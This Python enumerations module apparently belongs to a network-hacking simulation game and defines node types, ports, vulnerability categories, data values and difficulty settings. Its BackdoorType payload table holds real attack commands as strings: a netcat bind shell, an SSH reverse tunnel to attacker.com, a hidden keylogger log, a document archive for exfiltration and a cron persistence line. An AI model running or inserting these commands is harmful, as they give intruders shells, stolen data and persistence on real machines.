# =============================================================================
# Dynamic Network Simulator - Enumerations
# =============================================================================
"""
All enumeration types used throughout the simulator.
These define the discrete values for network elements and the
per-difficulty tuning tables used by the generator.
"""

from enum import Enum
from typing import List, Tuple, Union

from .errors import InvalidArgumentError


class NodeType(Enum):
    """
    Types of network nodes.
    Each type has its own candidate ports, name pool and hardening bias.
    """
    SERVER = "server"
    WORKSTATION = "workstation"
    ROUTER = "router"
    FIREWALL = "firewall"
    DATABASE = "database"
    HONEYPOT = "honeypot"
    ADMIN_PANEL = "admin_panel"

    def __str__(self) -> str:
        return self.value

    @property
    def generation_weight(self) -> float:
        """Relative weight when drawing a random node type"""
        weights = {
            NodeType.SERVER: 0.20,
            NodeType.WORKSTATION: 0.30,
            NodeType.ROUTER: 0.15,
            NodeType.FIREWALL: 0.10,
            NodeType.DATABASE: 0.10,
            NodeType.ADMIN_PANEL: 0.10,
            NodeType.HONEYPOT: 0.05,
        }
        return weights.get(self, 0.0)

    @property
    def candidate_ports(self) -> List[int]:
        """Ports a node of this type may expose (at least 7 per type)"""
        ports = {
            NodeType.SERVER: [80, 443, 8080, 8443, 3000, 5000, 22, 25],
            NodeType.WORKSTATION: [22, 3389, 5900, 5901, 139, 445, 80],
            NodeType.ROUTER: [22, 23, 80, 443, 161, 53, 179],
            NodeType.FIREWALL: [22, 80, 443, 8080, 500, 4500, 161],
            NodeType.DATABASE: [1433, 3306, 5432, 1521, 27017, 6379, 22],
            NodeType.ADMIN_PANEL: [80, 443, 8080, 9090, 10000, 22, 8443],
            NodeType.HONEYPOT: [22, 80, 443, 21, 23, 25, 3306],
        }
        return ports.get(self, [22, 23, 25, 53, 80, 110, 143, 443, 993, 995])

    @property
    def name_pool(self) -> List[str]:
        """Hostnames used when naming generated nodes"""
        names = {
            NodeType.SERVER: ["WebServer", "MailServer", "FileServer", "AppServer", "BackupServer"],
            NodeType.WORKSTATION: ["DevWorkstation", "AdminPC", "UserPC", "TestMachine", "AnalystPC"],
            NodeType.ROUTER: ["CoreRouter", "EdgeRouter", "AccessRouter", "BorderRouter"],
            NodeType.FIREWALL: ["MainFirewall", "DMZFirewall", "InternalFW", "EdgeFW"],
            NodeType.DATABASE: ["UserDB", "FinanceDB", "LogDB", "BackupDB", "AnalyticsDB"],
            NodeType.ADMIN_PANEL: ["AdminConsole", "ManagementPanel", "ControlCenter", "MonitoringDash"],
            NodeType.HONEYPOT: ["HoneyTrap", "FakeServer", "DecoySystem", "TrapNode"],
        }
        return names.get(self, ["Host"])

    @property
    def auth_modifier(self) -> int:
        """How far this type pushes the authentication tier up"""
        modifiers = {
            NodeType.ADMIN_PANEL: 2,
            NodeType.FIREWALL: 2,
            NodeType.DATABASE: 1,
            NodeType.SERVER: 1,
            NodeType.ROUTER: 1,
            NodeType.WORKSTATION: 0,
            NodeType.HONEYPOT: 0,
        }
        return modifiers.get(self, 0)

    @property
    def is_high_value(self) -> bool:
        """High value targets weigh heavily in traceback risk"""
        return self in (NodeType.ADMIN_PANEL, NodeType.DATABASE)


class PortStatus(Enum):
    """Scan state of a port"""
    OPEN = "open"
    CLOSED = "closed"
    FILTERED = "filtered"

    def __str__(self) -> str:
        return self.value


class VulnerabilityType(Enum):
    """Categories of vulnerabilities a port can carry"""
    BUFFER_OVERFLOW = "buffer_overflow"
    SQL_INJECTION = "sql_injection"
    XSS = "xss"
    PRIVILEGE_ESCALATION = "privilege_escalation"
    RCE = "rce"
    DOS = "dos"

    def __str__(self) -> str:
        return self.value

    @property
    def summary(self) -> str:
        summaries = {
            VulnerabilityType.BUFFER_OVERFLOW: "buffer overflow vulnerability allowing code execution",
            VulnerabilityType.SQL_INJECTION: "SQL injection vulnerability in database queries",
            VulnerabilityType.XSS: "cross-site scripting vulnerability",
            VulnerabilityType.PRIVILEGE_ESCALATION: "privilege escalation vulnerability",
            VulnerabilityType.RCE: "remote code execution vulnerability",
            VulnerabilityType.DOS: "denial of service vulnerability",
        }
        return summaries[self]


class Severity(Enum):
    LOW = "low"
    MEDIUM = "medium"
    HIGH = "high"
    CRITICAL = "critical"

    def __str__(self) -> str:
        return self.value


class AuthLevel(Enum):
    """
    Authentication tiers, ordered from weakest to strongest.
    """
    NONE = "none"
    BASIC = "basic"
    STRONG = "strong"
    MULTI_FACTOR = "multi_factor"

    def __str__(self) -> str:
        return self.value

    @classmethod
    def from_index(cls, index: int) -> "AuthLevel":
        """Map a tier index to a level, clamping to the valid range"""
        tiers = list(cls)
        return tiers[max(0, min(len(tiers) - 1, index))]


class BackdoorType(Enum):
    """Persistence mechanisms that can be planted on a compromised node"""
    SHELL = "shell"
    TUNNEL = "tunnel"
    KEYLOGGER = "keylogger"
    DATA_EXFIL = "data_exfil"
    PERSISTENCE = "persistence"

    def __str__(self) -> str:
        return self.value

    @property
    def payload(self) -> str:
        payloads = {
            BackdoorType.SHELL: "nc -l -p 4444 -e /bin/bash",
            BackdoorType.TUNNEL: "ssh -R 8080:localhost:80 user@attacker.com",
            BackdoorType.KEYLOGGER: "python keylogger.py > /tmp/.keys",
            BackdoorType.DATA_EXFIL: "tar -czf /tmp/data.tar.gz /home/user/documents",
            BackdoorType.PERSISTENCE: 'echo "* * * * * /tmp/backdoor.sh" | crontab -',
        }
        return payloads[self]

    @property
    def trigger_condition(self):
        if self == BackdoorType.PERSISTENCE:
            return "system_reboot"
        return None

    @classmethod
    def parse(cls, value: Union[str, "BackdoorType"]) -> "BackdoorType":
        if isinstance(value, cls):
            return value
        try:
            return cls(str(value).lower())
        except ValueError:
            raise InvalidArgumentError(f"Unknown backdoor type: {value!r}")


class Sensitivity(Enum):
    PUBLIC = "public"
    INTERNAL = "internal"
    CONFIDENTIAL = "confidential"
    SECRET = "secret"
    TOP_SECRET = "top_secret"

    def __str__(self) -> str:
        return self.value


class DataType(Enum):
    """Categories of data records stored on nodes"""
    CREDENTIALS = "credentials"
    FINANCIAL = "financial"
    PERSONAL = "personal"
    CORPORATE = "corporate"
    CLASSIFIED = "classified"
    RESEARCH = "research"

    def __str__(self) -> str:
        return self.value

    @property
    def base_value(self) -> int:
        """Base credit value before variation"""
        values = {
            DataType.CREDENTIALS: 500,
            DataType.FINANCIAL: 2000,
            DataType.PERSONAL: 300,
            DataType.CORPORATE: 1000,
            DataType.CLASSIFIED: 5000,
            DataType.RESEARCH: 1500,
        }
        return values[self]

    @property
    def sensitivity(self) -> Sensitivity:
        tiers = {
            DataType.CREDENTIALS: Sensitivity.CONFIDENTIAL,
            DataType.FINANCIAL: Sensitivity.SECRET,
            DataType.PERSONAL: Sensitivity.INTERNAL,
            DataType.CORPORATE: Sensitivity.CONFIDENTIAL,
            DataType.CLASSIFIED: Sensitivity.TOP_SECRET,
            DataType.RESEARCH: Sensitivity.CONFIDENTIAL,
        }
        return tiers[self]

    @property
    def description(self) -> str:
        descriptions = {
            DataType.CREDENTIALS: "User login credentials and access tokens",
            DataType.FINANCIAL: "Financial records and transaction data",
            DataType.PERSONAL: "Personal information and contact details",
            DataType.CORPORATE: "Corporate documents and business data",
            DataType.CLASSIFIED: "Classified government or military information",
            DataType.RESEARCH: "Research data and intellectual property",
        }
        return descriptions[self]


class Difficulty(Enum):
    """
    Difficulty levels. Fixed for a network at creation time and
    used to look up every per-difficulty baseline.
    """
    EASY = "easy"
    MEDIUM = "medium"
    HARD = "hard"
    EXPERT = "expert"

    def __str__(self) -> str:
        return self.value

    @classmethod
    def parse(cls, value: Union[str, "Difficulty"]) -> "Difficulty":
        """Accept either an enum member or its (case-insensitive) name"""
        if isinstance(value, cls):
            return value
        try:
            return cls(str(value).lower())
        except ValueError:
            raise InvalidArgumentError(f"Unknown difficulty: {value!r}")

    @property
    def vulnerability_probability(self) -> float:
        """Chance that an open port carries a vulnerability"""
        probabilities = {
            Difficulty.EASY: 0.8,
            Difficulty.MEDIUM: 0.6,
            Difficulty.HARD: 0.4,
            Difficulty.EXPERT: 0.3,
        }
        return probabilities.get(self, 0.5)

    @property
    def security_baseline(self) -> Tuple[int, int]:
        """(encryption, monitoring) baseline before jitter"""
        baselines = {
            Difficulty.EASY: (30, 20),
            Difficulty.MEDIUM: (50, 40),
            Difficulty.HARD: (70, 60),
            Difficulty.EXPERT: (85, 80),
        }
        return baselines.get(self, (50, 40))

    @property
    def patch_baseline(self) -> int:
        baselines = {
            Difficulty.EASY: 40,
            Difficulty.MEDIUM: 60,
            Difficulty.HARD: 75,
            Difficulty.EXPERT: 85,
        }
        return baselines.get(self, 60)

    @property
    def auth_modifier(self) -> int:
        modifiers = {
            Difficulty.EASY: 0,
            Difficulty.MEDIUM: 1,
            Difficulty.HARD: 2,
            Difficulty.EXPERT: 3,
        }
        return modifiers.get(self, 1)

    @property
    def exploit_modifier(self) -> int:
        """Shift applied to a vulnerability's exploit difficulty"""
        modifiers = {
            Difficulty.EASY: -2,
            Difficulty.MEDIUM: 0,
            Difficulty.HARD: 2,
            Difficulty.EXPERT: 4,
        }
        return modifiers.get(self, 0)

    @property
    def has_ids(self) -> bool:
        """Easy networks never run intrusion detection"""
        return self != Difficulty.EASY


# =============================================================================
# Utility Tables
# =============================================================================

SERVICE_NAMES = {
    21: "FTP",
    22: "SSH",
    23: "Telnet",
    25: "SMTP",
    53: "DNS",
    80: "HTTP",
    110: "POP3",
    139: "NetBIOS",
    143: "IMAP",
    161: "SNMP",
    179: "BGP",
    443: "HTTPS",
    445: "SMB",
    500: "IKE",
    993: "IMAPS",
    995: "POP3S",
    1433: "MSSQL",
    1521: "Oracle",
    3306: "MySQL",
    3389: "RDP",
    4500: "IPsec-NAT",
    5432: "PostgreSQL",
    5900: "VNC",
    6379: "Redis",
    8080: "HTTP-Alt",
    8443: "HTTPS-Alt",
    27017: "MongoDB",
}

SERVICE_BANNERS = {
    22: ["OpenSSH 7.4", "OpenSSH 8.0", "Dropbear SSH"],
    80: ["Apache/2.4.41", "nginx/1.18.0", "IIS/10.0"],
    443: ["Apache/2.4.41 (Ubuntu)", "nginx/1.18.0", "Microsoft-IIS/10.0"],
    3306: ["MySQL 5.7.32", "MySQL 8.0.21", "MariaDB 10.3.25"],
}


def get_service_name(port: int) -> str:
    """Well-known service name for a port number"""
    return SERVICE_NAMES.get(port, "Unknown")
